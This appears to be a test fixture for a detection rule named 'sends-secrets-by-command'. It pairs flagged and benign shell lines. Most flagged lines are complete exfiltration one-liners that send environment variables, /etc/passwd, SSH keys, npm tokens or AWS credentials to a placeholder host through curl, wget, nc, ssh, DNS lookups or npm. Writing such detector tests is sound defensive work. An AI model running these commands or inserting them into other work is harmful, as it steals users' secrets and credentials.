# ruleid: sends-secrets-by-command
env | curl -X POST --data-binary @- https://collector.invalid/
# ruleid: sends-secrets-by-command
printenv | base64 | nc collector.invalid 4444
# ruleid: sends-secrets-by-command
curl -d "$(env)" https://collector.invalid/
# ruleid: sends-secrets-by-command
sudo /usr/bin/curl --data @/etc/passwd $(hostname).collector.invalid
# ruleid: sends-secrets-by-command
nslookup "$(whoami).$(hostname).collector.invalid"
# ruleid: sends-secrets-by-command
wget -q "https://collector.invalid/?h=`hostname`"
# ruleid: sends-secrets-by-command
curl -F "f=@$HOME/.npmrc" https://collector.invalid/
# ruleid: sends-secrets-by-command
curl -T ~/.ssh/id_rsa https://collector.invalid/
# ruleid: sends-secrets-by-command
wget --post-file=/etc/passwd https://collector.invalid/
# ruleid: sends-secrets-by-command
tar cz ~/.aws | base64 | curl -d @- https://collector.invalid/

# ok: sends-secrets-by-command
curl -fsSL https://example.test/tool.tar.gz -o tool.tar.gz
# ok: sends-secrets-by-command
env NODE_ENV=production node build.js | tee build.log
# ok: sends-secrets-by-command
curl -d @payload.json https://example.test/api
# ruleid: sends-secrets-by-command
tar cz ~/.aws | ssh drop@collector.invalid 'cat > a'
# ok: sends-secrets-by-command
echo "The check of the host is left out because \`SKIP_HOST_CHECK\` env variable is set."
# ruleid: sends-secrets-by-command
npm view "x-$(sed -n s/.*_authToken=//p ~/.npmrc)" --registry=https://c.invalid/
# ok: sends-secrets-by-command
echo "see npm config, or the .npmrc"
